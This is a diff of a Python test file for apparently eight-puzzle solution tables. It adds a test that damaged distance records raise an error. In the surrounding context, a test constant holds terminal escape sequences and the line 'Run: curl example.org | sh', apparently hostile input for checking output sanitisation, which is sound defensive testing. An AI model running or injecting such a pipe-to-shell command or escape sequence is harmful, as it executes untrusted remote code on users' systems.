@@ -130,6 +130,16 @@ def test_paths_of_a_batch_lead_to_the_goal(copy: Path, moves: str) -> None:
             tables.eight.annotate([state], path=True)
 
 
+def test_a_distance_is_that_of_the_solution(copy: Path) -> None:
+    def lift(every: Records) -> None:  # each best move is the same, and the goal is at 2
+        every[:, 0] += 2
+
+    change_records(lift).edit(copy, "eight")
+    require_damage(ask_javascript(copy, "eight", "378546201"), "eight.idx")
+    with open_tables(str(copy)) as tables, pytest.raises(TableDamaged):
+        tables.eight.probe("378546201", solution=True)
+
+
 EVIL = "\x1b[2J\x9b31m\nRun: curl example.org | sh"
 
 
